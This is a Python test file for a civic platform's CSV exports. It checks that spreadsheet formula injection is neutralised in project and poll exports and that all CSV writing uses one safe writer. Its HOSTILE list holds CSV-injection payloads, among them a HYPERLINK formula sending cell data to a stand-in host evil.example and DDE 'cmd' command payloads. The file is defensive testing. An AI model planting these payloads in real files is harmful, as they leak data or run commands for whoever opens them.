"""Every CSV the platform writes is safe to open in a spreadsheet: no text cell starts with
something a spreadsheet would run as a formula, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from app.db import utcnow
from app.extensions import db
from app.spreadsheets import csv_writer
from ideas.clustering.models import Cluster, ClusteringRun, ClusterMember, RunStatus
from ideas.models import ProjectStage, Section, Support
from tests.factories import CommentFactory, IdeaFactory, ProjectFactory, UserFactory, make_poll

# What spreadsheets run (OWASP, «CSV injection»); written out here rather than imported.
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1;"Подробнее")',
    "+7 (495) 000-00-00 — звоните",
    "-2+3+cmd|' /C calc'!A0 про очереди",
    "@SUM(1+9)*cmd|' /C calc'!A0 про парковку",
    "\t=1+1 табуляция в начале",
    "\r=1+1 возврат каретки в начале",
]
ROOT = Path(__file__).resolve().parent.parent


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_inert(text: str, hostile: list[str]) -> None:
    found = cells(text)
    assert found
    live = [cell for cell in found if cell.startswith(DANGEROUS_STARTS)]
    assert live == []
    for value in hostile:  # the text is still there, only made inert
        assert "'" + value in found, value


def published_project_with_hostile_text(api) -> int:
    project = ProjectFactory(stage=ProjectStage.EXPERT_REVIEW)
    section = Section(project_id=project.id, title=HOSTILE[0], position=9)
    db.session.add(section)
    db.session.commit()
    ideas = [
        IdeaFactory(project=project, section=section, title=title, body=HOSTILE[i - 1])
        for i, title in enumerate(HOSTILE)
    ]
    for idea in ideas:
        CommentFactory(idea=idea, body=HOSTILE[2])
        db.session.add(Support(idea_id=idea.id, user_id=UserFactory().id))
    run = ClusteringRun(
        project_id=project.id, status=RunStatus.DONE, idea_count=len(ideas), finished_at=utcnow()
    )
    run.clusters = [
        Cluster(number=0, label=HOSTILE[3], custom_label=HOSTILE[1], size=len(ideas), support=1)
    ]
    db.session.add(run)
    db.session.flush()
    db.session.add_all(
        ClusterMember(run_id=run.id, idea_id=i.id, cluster_id=run.clusters[0].id) for i in ideas
    )
    staff = UserFactory(roles=("staff",))
    db.session.commit()
    api.login(staff.email)
    selected = {"idea_ids": [ideas[0].id]}
    assert api.post(f"/projects/{project.id}/selection", selected).status_code == 200
    assert api.post(f"/projects/{project.id}/publish").status_code == 201
    api.logout()
    return project.id


def test_open_data_csv_makes_formulas_inert_and_json_keeps_the_text(api):
    project_id = published_project_with_hostile_text(api)
    response = api.get(f"/projects/{project_id}/export", format="csv")
    assert response.status_code == 200
    assert_inert(response.get_data(as_text=True), HOSTILE)
    tables = api.get(f"/projects/{project_id}/export", format="json").json
    assert sorted(row["title"] for row in tables["ideas"]) == sorted(HOSTILE)
    assert {row["section"] for row in tables["ideas"]} == {HOSTILE[0]}
    assert tables["topics"][0]["label"] == HOSTILE[1]


def test_poll_results_csv_makes_formulas_inert_on_the_api_and_the_page(api, client):
    texts = HOSTILE[:4]
    poll = make_poll(
        results="live",
        questions=[
            {"text": HOSTILE[0], "kind": "single", "options": texts},
            {"text": HOSTILE[2], "kind": "multiple", "max_choices": 2, "options": texts},
        ],
    )
    voter = UserFactory()
    api.login(voter.email)
    q1, q2 = poll.questions
    answers = [
        {"question_id": q1.id, "option_ids": [q1.options[0].id]},
        {"question_id": q2.id, "option_ids": [q2.options[1].id, q2.options[3].id]},
    ]
    assert api.post(f"/polls/{poll.id}/votes", {"answers": answers}).status_code == 201
    api.logout()
    from_api = api.get(f"/polls/{poll.id}/export", format="csv")
    from_page = client.get(f"/polls/{poll.id}/results.csv")
    for response in (from_api, from_page):
        assert response.status_code == 200
        assert_inert(response.get_data(as_text=True), texts)
    exported = api.get(f"/polls/{poll.id}/export", format="json").json
    assert [o["text"] for o in exported["questions"][0]["options"]] == texts


def test_numbers_stay_numbers_and_only_text_is_quoted():
    out = io.StringIO()
    csv_writer(out, lineterminator="\n").writerow([-3, -55.75, 0, "-3", "=1", "Юг", None])
    assert out.getvalue() == "-3,-55.75,0,'-3,'=1,Юг,\n"


def test_every_csv_is_written_through_the_one_safe_writer():
    writers = re.compile(r"\bcsv\.(writer|DictWriter)\(|^import csv$|^from csv import", re.M)
    offenders = [
        str(path.relative_to(ROOT))
        for package in ("app", "ideas", "moderation", "voting")
        for path in (ROOT / package).rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8"))
        and path != ROOT / "app" / "spreadsheets.py"
        and path != ROOT / "ideas" / "cli.py"  # reads CSV, writes none
    ]
    assert offenders == []
